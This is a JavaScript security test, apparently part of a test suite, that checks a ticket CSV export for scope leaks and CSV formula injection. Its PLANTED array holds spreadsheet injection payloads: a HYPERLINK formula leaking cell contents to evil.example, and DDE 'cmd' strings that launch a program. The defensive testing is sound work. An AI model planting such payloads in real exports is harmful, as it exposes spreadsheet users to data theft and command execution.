// Issue 23, F8 and the export's scope: GET /export/tickets.csv through the gateway.
//  - the regional manager's export holds exactly the tickets of his cities' places (scope computed
//    independently in SQL), none outside;
//  - cells a spreadsheet would run as formulas (fiscal document numbers set to `=HYPERLINK(…)`,
//    `@SUM(…)`, `+cmd|…`, `-2+3` in the database) are written as text (a leading `'`), and no
//    cell of the file starts with `=`, `+`, `-` or `@` unless it is a plain number.
import { database, freshAddress, info, login, note, PHONES, rest, row } from '../lib.mjs';

const PLANTED = ['=HYPERLINK("http://evil.example/?"&A1;"Подробнее")', '@SUM(1+1)*cmd|" /C calc"!A0', '+cmd|" /C calc"!A0', '-2+3'];
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;

/** The cells of a `;`-separated CSV with RFC 4180 quoting. */
export function parseCsv(text) {
  const rows = [];
  let cells = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      cells.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      cells.push(cell);
      rows.push(cells);
      cells = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || cells.length) {
    cells.push(cell);
    rows.push(cells);
  }
  return rows;
}

export async function gwExportProbe(world) {
  const gw = world.gateways[0].url;
  const db = await database(world);
  const scopeRow = row('gw-export: regional manager’s CSV export scope');
  const formulaRow = row('gw-export: formula cells in the CSV export');
  const restore = [];
  try {
    const q = async (sql, params = []) => (await db.query(sql, params)).rows.map((r) => r.id);
    const cities = await q('select city_id as id from user_cities where user_id = 2 union select city_id from users where id = 2 and city_id is not null');
    const places = await q('select id from places where city_id = any($1)', [cities]);
    const scope = new Set(await q('select id from tickets where place_id = any($1)', [places]));
    if (scope.size < PLANTED.length) throw new Error(`the regional manager has only ${scope.size} tickets`);
    const planted = [...scope].sort((a, b) => a - b).slice(0, PLANTED.length);
    for (const [i, id] of planted.entries()) {
      const before = (await db.query('select fiscal_document_number as f from tickets where id = $1', [id])).rows[0].f;
      restore.push([id, before]);
      await db.query('update tickets set fiscal_document_number = $2 where id = $1', [id, PLANTED[i]]);
    }

    const token = await login(world.apis[0].url, PHONES.rm, freshAddress());
    const res = await rest(gw, 'GET', '/export/tickets.csv', { token, timeout: 120_000 });
    if (res.status !== 200) throw new Error(`export answered ${res.status}: ${res.text.slice(0, 200)}`);
    const rows = parseCsv(res.text.replace(/^\uFEFF/, ''));
    const [header, ...data] = rows;
    const fdColumn = header.indexOf('ФД');
    const ids = data.map((cells) => Number(cells[0]));

    scopeRow.tried = ids.length;
    const outside = ids.filter((id) => !scope.has(id));
    scopeRow.leaked = outside.length;
    scopeRow.refused = ids.length - outside.length;
    if (outside.length) note(scopeRow, `tickets outside his scope exported: ${outside.slice(0, 10).join(', ')}`);
    const missing = [...scope].filter((id) => !ids.includes(id));
    // The SQL scope may be a superset of the API's (as in the matrix probe): only rows outside count.
    if (missing.length) info(scopeRow, `${missing.length} tickets of the SQL scope not exported (e.g. ${missing.slice(0, 5).join(', ')})`);
    info(scopeRow, `${ids.length} rows exported, ${scope.size} tickets in the scope (SQL)`);

    for (const [i, id] of planted.entries()) {
      formulaRow.tried++;
      const cell = data.find((cells) => Number(cells[0]) === id)?.[fdColumn];
      if (cell === `'${PLANTED[i]}`) formulaRow.refused++;
      else {
        formulaRow.leaked++;
        note(formulaRow, `ticket ${id}: ФД written as ${JSON.stringify(cell)}`);
      }
    }
    const live = data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell));
    if (live.length) {
      formulaRow.leaked += live.length;
      note(
        formulaRow,
        `cells that run as formulas: ${live
          .slice(0, 3)
          .map((c) => JSON.stringify(c))
          .join(', ')}`,
      );
    }
  } finally {
    for (const [id, value] of restore) await db.query('update tickets set fiscal_document_number = $2 where id = $1', [id, value]);
    await db.end();
  }
  return [scopeRow, formulaRow];
}
